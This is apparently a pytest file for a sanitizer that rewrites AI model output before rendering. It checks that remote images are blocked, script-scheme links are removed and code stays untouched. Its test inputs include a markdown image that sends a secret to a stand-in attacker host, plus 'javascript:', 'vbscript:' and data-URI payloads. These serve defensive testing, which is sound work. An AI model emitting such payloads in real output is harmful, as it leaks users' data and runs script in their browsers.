"""Model output is rewritten before rendering: nothing loads, nothing runs, code is untouched."""

from __future__ import annotations

import pytest

from components.text_view import last_break
from playground.safe_markdown import safe_markdown, split_blocks


def test_remote_image_becomes_visible_blocked_link():
    out = safe_markdown("Look ![chart](https://attacker.test/p?d=SECRET) here")
    assert "![" not in out
    assert "[image blocked: attacker.test](https://attacker.test/p?d=SECRET)" in out


def test_image_with_title_and_angle_brackets():
    out = safe_markdown('![a](<https://evil.test/x.png> "t")')
    assert out.startswith("[image blocked: evil.test]") and "![" not in out


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox"]
)
def test_dangerous_links_are_inert(url):
    out = safe_markdown(f"[click]({url})")
    assert "](" not in out and url.split(":")[0].lower() + ":" not in out.lower()
    assert "unsafe link removed" in out


def test_data_image_is_blocked_without_link():
    out = safe_markdown("![x](data:image/png;base64,AAAA)")
    assert "data:image" not in out and "image blocked" in out


def test_reference_style_image_and_dangerous_definition():
    out = safe_markdown("![logo][l]\n\n[l]: https://evil.test/l.png\n[j]: javascript:alert(1)")
    assert "![" not in out
    assert "javascript:" not in out


def test_autolink_with_dangerous_scheme():
    assert "javascript:" not in safe_markdown("<javascript:alert(1)>")
    assert "<https://ok.test>" in safe_markdown("<https://ok.test>")


def test_dollars_are_not_latex_but_code_is_untouched():
    text = "Put $4,000 in the CD and $1,000 aside.\n\n```python\nprice = '$5'  # ![x](http://e.test/i)\n```\n`$x`"
    out = safe_markdown(text)
    assert "\\$4,000" in out and "\\$1,000" in out
    assert "```python\nprice = '$5'  # ![x](http://e.test/i)\n```" in out
    assert out.endswith("`$x`")


def test_ordinary_links_and_html_text_survive():
    text = "[docs](https://docs.aws.amazon.com) and <b>bold</b>"
    assert safe_markdown(text) == text  # Streamlit escapes the HTML itself


def test_split_blocks_keeps_fences_whole():
    assert split_blocks("a\nb\n\nc\n\n```\nx\n\ny\n```\n\nd") == ["a\nb", "c", "```\nx\n\ny\n```", "d"]


def test_last_break_ignores_blank_lines_inside_fences():
    text = "para one\n\n```\ncode\n\nmore\n```\ntail"
    assert text[: last_break(text)] == "para one\n\n"
    assert last_break("no breaks at all") == 0


def test_urls_with_parentheses_are_handled_whole():
    assert safe_markdown("[bad](javascript:alert(1)) end") == "bad (unsafe link removed) end"
    wiki = "[w](https://en.wikipedia.org/wiki/Foo_(bar))"
    assert safe_markdown(wiki) == wiki
    assert safe_markdown("![i](https://e.test/a_(b).png)") == "[image blocked: e.test](https://e.test/a_(b).png)"
